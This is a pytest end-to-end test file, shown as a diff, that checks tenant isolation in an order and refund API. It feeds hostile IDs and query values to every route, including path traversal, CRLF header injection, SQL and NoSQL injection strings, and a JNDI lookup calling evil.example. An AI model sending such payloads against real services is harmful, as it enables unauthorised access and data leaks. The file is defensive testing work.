@@ -1,0 +1,119 @@
+"""Ids with the key format's separators and wildcards: nothing of another's is read, nothing 5xx."""
+
+from collections.abc import Iterator
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+from tests.e2e.test_who_may import NOWHERE, ROUTES
+from tests.e2e.world import DIRECT_STUDIO, PLATFORM_STUDIO, World
+
+pytestmark = pytest.mark.stack
+
+# {mine} and {theirs} are orders of this studio and of another.
+IDS = {
+    "separator": "{theirs}#ORDER",
+    "separator before": "#ORDER#{theirs}",
+    "key": "ORDER#{theirs}",
+    "sort key": "{mine}#REFUND#",
+    "wildcard": "*",
+    "wildcard after": "ord_*",
+    "percent": "%",
+    "escaped separator": "{theirs}%23ORDER",
+    "escaped slash": "{mine}%2F..%2F{theirs}",
+    "slash": "{mine}/../{theirs}",
+    "dots": "..",
+    "backslash": "..\\{theirs}",
+    "null": "{mine}\x00{theirs}",
+    "line break": "{mine}\r\nX-Studio: st_fjord",
+    "escape": "{mine}\x1b[2J",
+    "quote": "{mine}' OR '1'='1",
+    "JSON": '{{"S":"{theirs}"}}',
+    "operator": "$ne",
+    "template": "${{jndi:ldap://evil.example}}",
+    "full width": "｛theirs｝＃",
+    "right to left": "{mine}\u202e",
+    "combining": "{mine}\u0301",
+    "no character": "\ufffe\uffff",
+    "emoji": "🎓",
+    "space": " ",
+    "largest": "\U0010ffff" * 64,
+    "overlong": "x" * 65,
+    "very overlong": "x" * 5_000,
+}
+
+# What a refusal may be: of the id's form, or that there is no such thing.
+CODES = {
+    *((400, "bad_request"), (401, "unauthorized"), (404, "not_found"), (422, "invalid_input")),
+    *((404, f"{name}_not_found") for name in ("order", "refund", "message", "export", "payout")),
+    (404, "parked_message_not_found"),
+}
+
+
+@pytest.fixture(scope="module")
+def orders(world: World) -> dict[str, str]:
+    """One order of each studio."""
+    return {"mine": world.sell(PLATFORM_STUDIO), "theirs": world.sell(DIRECT_STUDIO)}
+
+
+def parameters() -> Iterator[tuple[str, str]]:
+    for name, route in ROUTES.items():
+        for parameter in NOWHERE:
+            if f"{{{parameter}}}" in route.path:
+                yield name, parameter
+
+
+@pytest.mark.parametrize(("name", "parameter"), list(parameters()))
+def test_an_id_in_a_path_finds_nothing_but_what_has_it(
+    world: World, orders: dict[str, str], name: str, parameter: str
+) -> None:
+    route = ROUTES[name]
+    for kind, pattern in IDS.items():
+        hostile = quote(pattern.format(**orders), safe="")
+        known = NOWHERE | {"order_id": orders["mine"]} | {parameter: hostile}
+        body: Any = route.body
+        headers = {"Idempotency-Key": f"hostile-{len(kind)}"} if route.method == "POST" else {}
+        answer = world.call(route.method, route.path.format(**known), body, headers=headers)
+        found = (answer.status_code, answer.json().get("code"))
+        assert found in CODES, f"{kind}: {found} {answer.text[:300]}"
+        assert answer.headers["content-type"] == "application/problem+json"
+        assert orders["theirs"] not in answer.text
+    panel = world.call("GET", f"/orders/{orders['mine']}").json()
+    assert (panel["refunds"], panel["messages"]) == ([], [])
+
+
+QUERIES = {
+    "/orders": ("query", "status", "limit", "cursor"),
+    "/print-station/queue": ("status", "limit", "cursor"),
+    "/reports/refunds": ("from", "to", "state", "format", "limit", "cursor"),
+    "/reports/refunds/patterns": ("from", "to", "by"),
+    "/payouts": ("limit", "cursor"),
+}
+
+
+@pytest.mark.parametrize(
+    ("path", "parameter"), [(path, each) for path, names in QUERIES.items() for each in names]
+)
+def test_a_query_parameter_shows_nothing_of_anothers(
+    world: World, orders: dict[str, str], path: str, parameter: str
+) -> None:
+    for kind, pattern in IDS.items():
+        hostile = quote(pattern.format(**orders), safe="")
+        answer = world.call("GET", f"{path}?{parameter}={hostile}")
+        assert answer.status_code in {200, 400, 413, 414, 422}, f"{kind}: {answer.text[:300]}"
+        assert f'"{orders["theirs"]}"' not in answer.text
+        # Only a search takes any text, and finds what has those words.
+        if answer.status_code == 200:
+            assert parameter == "query", kind
+
+
+@pytest.mark.parametrize("kind", IDS)
+def test_ppss_own_read_no_studio_by_a_pattern(
+    world: World, orders: dict[str, str], kind: str
+) -> None:
+    admin = world.stack.tokens[PLATFORM_STUDIO]["pps_admin"]
+    for named in (IDS[kind].format(**orders), f"{PLATFORM_STUDIO}#none", f"{PLATFORM_STUDIO}#OPEN"):
+        answer = world.call("GET", f"/orders?studio_id={quote(named, safe='')}", token=admin)
+        assert answer.status_code in {200, 403, 422}, answer.text[:300]
+        assert answer.json().get("items", []) == []
